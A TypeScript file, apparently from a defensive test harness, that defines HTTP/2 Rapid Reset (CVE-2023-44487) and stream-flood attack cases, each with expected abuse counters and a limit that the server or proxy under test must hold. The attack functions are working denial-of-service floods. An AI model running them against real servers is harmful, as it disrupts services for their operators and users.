import type { Attack } from "../attack.ts"
import { flood } from "../flood.ts"
import { block } from "../hpack.ts"
import { request } from "../peer.ts"
import * as wire from "../wire.ts"

const HOLD = block(request("/abuse.Attack/Hold"))

/** CVE-2023-44487: a cancelled stream is free for the client and work for everyone behind it. */
export const rapidReset: Attack[] = [
  {
    name: "rapid-reset",
    source: "CVE-2023-44487; RFC 9113 §10.5",
    how: "HEADERS, then RST_STREAM(CANCEL), up to 5,000 times",
    side: "downstream",
    pace: "flood",
    counters: ["abuse_exhausted", "control_frames_queued", "unsent_octets_paused"],
    bar: { held: "ended before 1,000 calls reach the backend", end: "must", callsMax: 1000, liveMax: 1000 },
    async run(stage) {
      const peer = await stage.connect()
      return await flood(peer, stage, {
        blow: (i) =>
          Buffer.concat([wire.headers(2 * i + 1, HOLD), wire.rstStream(2 * i + 1, wire.ErrorCode.CANCEL)]),
        framesPerBlow: 2,
        blowsMax: 5000,
      })
    },
  },
  {
    name: "stream-flood",
    source: "RFC 9113 §5.1.2",
    how: "5,000 calls opened on one connection and none ended, whatever SETTINGS_MAX_CONCURRENT_STREAMS says",
    side: "downstream",
    pace: "flood",
    counters: ["streams_refused", "abuse_exhausted"],
    bar: { held: "never more than 1,000 open at the backend", end: "may", callsMax: 1000, liveMax: 1000 },
    async run(stage) {
      const peer = await stage.connect()
      return await flood(peer, stage, { blow: (i) => wire.headers(2 * i + 1, HOLD), blowsMax: 5000 })
    },
  },
]
